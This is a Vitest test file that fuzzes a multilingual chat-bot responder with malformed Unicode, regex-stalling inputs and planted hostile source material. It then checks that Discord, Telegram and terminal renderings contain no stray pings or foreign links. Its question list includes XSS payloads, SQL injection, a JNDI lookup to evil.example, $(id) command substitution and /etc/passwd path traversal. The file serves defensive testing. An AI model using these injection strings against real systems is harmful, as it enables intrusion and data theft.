import { describe, expect, it } from 'vitest'
import {
  type Answer,
  type ChatRequest,
  createResponder,
  LOCALES,
  type Responder,
} from '../../../src/answers/index.ts'
import { createSearchIndex } from '../../../src/retrieval/index.ts'
import { HOSTILE, type RendererContract } from '../../support/contract.ts'
import { readMaterial } from '../../support/material.ts'
import { DISCORD } from '../../support/renderers/discord.ts'
import { TELEGRAM } from '../../support/renderers/telegram.ts'
import { TERMINAL } from '../../support/renderers/terminal.ts'

const ZALGO = [...'红烧肉怎么做']
  .map((letter) => letter + '\u0336\u0321\u0322\u035b\u0489'.repeat(40))
  .join('')

/** What people type who want to see what happens. */
const QUESTIONS: readonly string[] = [
  ...HOSTILE,
  ...[
    '',
    ' ',
    '\n',
    '\0',
    '?',
    '。',
    '🙂',
    '\ud83d',
    '\udc00\ud800',
    '\u202e',
    '\u200b'.repeat(5000),
  ],
  '集合地点在哪里？'.repeat(1500),
  '啊'.repeat(10_000),
  `${'a'.repeat(10_000)}!`,
  '9'.repeat(4096),
  `第${'9'.repeat(4096)}段`,
  `¶${'0'.repeat(4096)}1`,
  '-1 1e308 0x10 1/0 NaN Infinity',
  ZALGO,
  `水${'\u0301'.repeat(10_000)}`,
  'Ｗｈｅｒｅ ｄｏ ｗｅ ｍｅｅｔ？',
  'Whеrе dо wе mееt?', // Cyrillic е and о
  '𝐖𝐡𝐞𝐫𝐞 𝐝𝐨 𝐰𝐞 𝐦𝐞𝐞𝐭?',
  '集合\u2066地点\u2069在\u202e哪里\u202c？',
  '\u001b]0;title\u0007\u001b[2J\u001b[31m集合地点',
  '</script><script>alert(1)</script><img src=x onerror=alert(1)>',
  '&lt;b&gt; &#x40;everyone &amp;nbsp; %3Cscript%3E',
  `'; DROP TABLE passages; -- ${'$'}{jndi:ldap://evil.example} {{7*7}} $(id) \`id\``,
  '__proto__',
  'constructor',
  'toString valueOf hasOwnProperty',
  '../../../../etc/passwd',
  'file:///etc/passwd javascript:alert(1) tg://user?id=1 discord://-/users/1',
  '[hidden](javascript:alert(1)) [x](tg://user?id=1) ![x](https://evil.example/p.png)',
  '/ask /ask /ask@other_bot 什么',
  // Shapes on which a careless expression needs forever.
  ' '.repeat(10_000),
  `${' '.repeat(5_000)}x`,
  `${'\t \t'.repeat(3_000)}?`,
  `${'什么时'.repeat(3_000)}`,
  `${'a1'.repeat(5_000)}.`,
  `${'一'.repeat(10_000)}人`,
  `${'(('.repeat(3_000)}${'[['.repeat(1_000)}`,
  `#${' '.repeat(4_000)}#${'#'.repeat(4_000)}x`,
  `${'1-'.repeat(4_000)}1`,
  `${'a.b.'.repeat(2_000)}@${'c.'.repeat(500)}`,
  `${'@a '.repeat(1_500)}`,
  `/${'a'.repeat(4_000)}`,
  `${'aeiou'.repeat(60)}`,
  `${'zhuang'.repeat(60)}`,
  '多少'.repeat(2_000),
]

/** Material whose author means no good, wherever an author can write. */
function writeHostileMaterial(): Readonly<Record<string, string>> {
  const quoted = (words: string) => JSON.stringify(words.toWellFormed())
  const rows = HOSTILE.map((words, index) =>
    JSON.stringify({
      id: `q${index}`,
      title: words.toWellFormed().slice(0, 190),
      author: words.toWellFormed().slice(0, 190),
      license: '<b>@everyone</b>',
      url: `https://example.org/a(b)[c]_d_*e*'"<x>${index}#@everyone`,
      text: `集合地点在北门，${words.toWellFormed()}\n带两升水。`,
    }),
  )
  const summary = '@everyone **粗** <@1> [x](https://evil.example)'
  const byLocale = (words: string) =>
    `{ zh-Hans: ${quoted(words)}, zh-Hant: ${quoted(words)}, en: ${quoted(words)} }`
  const question = quoted('集合 @everyone `地点` <@1> https://evil.example/x 在哪里？')
  return {
    'faq.jsonl': rows.join('\n'),
    'guide.md': [
      '---',
      `title: ${quoted('**指南** @everyone <@1> [x](https://evil.example) </script>')}`,
      `note: ${quoted('||藏|| `码` @durov /start@some_bot #话题')}`,
      '---',
      '',
      '# 大题 @everyone [点我](https://evil.example) `',
      '',
      ...HOSTILE.map(
        (words) => `集合地点在南门。${words.toWellFormed().replaceAll(/\n+/g, ' ')}\n`,
      ),
      `数字${'9'.repeat(4096)}年。\n`,
      `${'一'.repeat(8_000)}人集合。\n`,
      `${'字'.repeat(3)}${'\u0301'.repeat(6_000)}集合。\n`,
    ].join('\n'),
    'topics.yaml': [
      'constructor:',
      '  titles: { zh-Hans: 原型, zh-Hant: 原型, en: constructor }',
      `  summaries: ${byLocale(summary)}`,
      '  covers: { faq: all, guide: all }',
      `  questions: { zh-Hans: [${question}], zh-Hant: [${question}], en: [${question}] }`,
    ].join('\n'),
    'lexicon.yaml': `- ["@everyone", "**", "(((", 集合]\n- ["${'a'.repeat(500)}", 水]`,
  }
}

/** Sources, the bot itself, and the links that the Markdown of the material makes: to the web alone. */
const ALLOWED = /^https:\/\/(?:(?:example\.org|t\.me)\/|evil\.example(?:\/a_b_c)?$)/

/** A responder over that material. A mistake of ours would be an answer too: it is thrown instead. */
async function createHostileResponder(): Promise<Responder> {
  const { corpus, problems } = readMaterial(writeHostileMaterial())
  expect(problems).toEqual([])
  return createResponder(corpus, await createSearchIndex(corpus), {
    onError(error) {
      throw error
    },
  })
}

const responder = await createHostileResponder()
const own = new Set(responder.commands.map((command) => `/${command.name}`))

/** Renders an answer, and looks at what comes of it. */
const judgeWith =
  <Message>({ name, render, links, pings, refusals }: RendererContract<Message>) =>
  (answer: Answer): void => {
    for (const message of render(answer)) {
      expect(refusals(message), name).toEqual([])
      expect(pings(message).filter((ping) => !own.has(ping))).toEqual([])
      for (const link of links(message)) expect(link, name).toMatch(ALLOWED)
    }
  }
const JUDGES = [
  judgeWith(DISCORD),
  judgeWith(TELEGRAM),
  // A terminal makes no links; whatever looks like an address is text.
  judgeWith({ ...TERMINAL, links: () => [] }),
]

/** Renders the answer on every platform, and returns what it offers. */
async function judge(request: ChatRequest) {
  const answer = await responder.respond(request)
  for (const look of JUDGES) look(answer)
  return answer.actions.map((action) => action.request)
}

describe('every platform, before people and material that mean no good', () => {
  it.each(['ask', 'search', 'constructor', 'passage', 'sources', 'help', 'topics'])(
    'answers /%s without a ping, a foreign link or a refusal',
    async (command) => {
      for (const [index, text] of QUESTIONS.entries()) {
        const locale = LOCALES[index % LOCALES.length] ?? 'en'
        const offered = await judge({ command, text, locale })
        for (const request of offered.slice(0, 2)) await judge({ ...request, locale })
        await responder.suggest({ command, text, locale })
      }
    },
    60_000,
  )

  it('answers commands that are none, and pages that are not there', async () => {
    for (const command of [...HOSTILE, '__proto__', 'hasOwnProperty', 'a'.repeat(10_000)])
      await judge({ command, text: '集合', locale: 'en' })
    for (const page of [-1, 0, 2, 1e9, Number.NaN, Number.POSITIVE_INFINITY, 1.5])
      for (const command of ['search', 'sources'])
        await judge({ command, text: '集合地点', page, locale: 'zh-Hans' })
  })
})
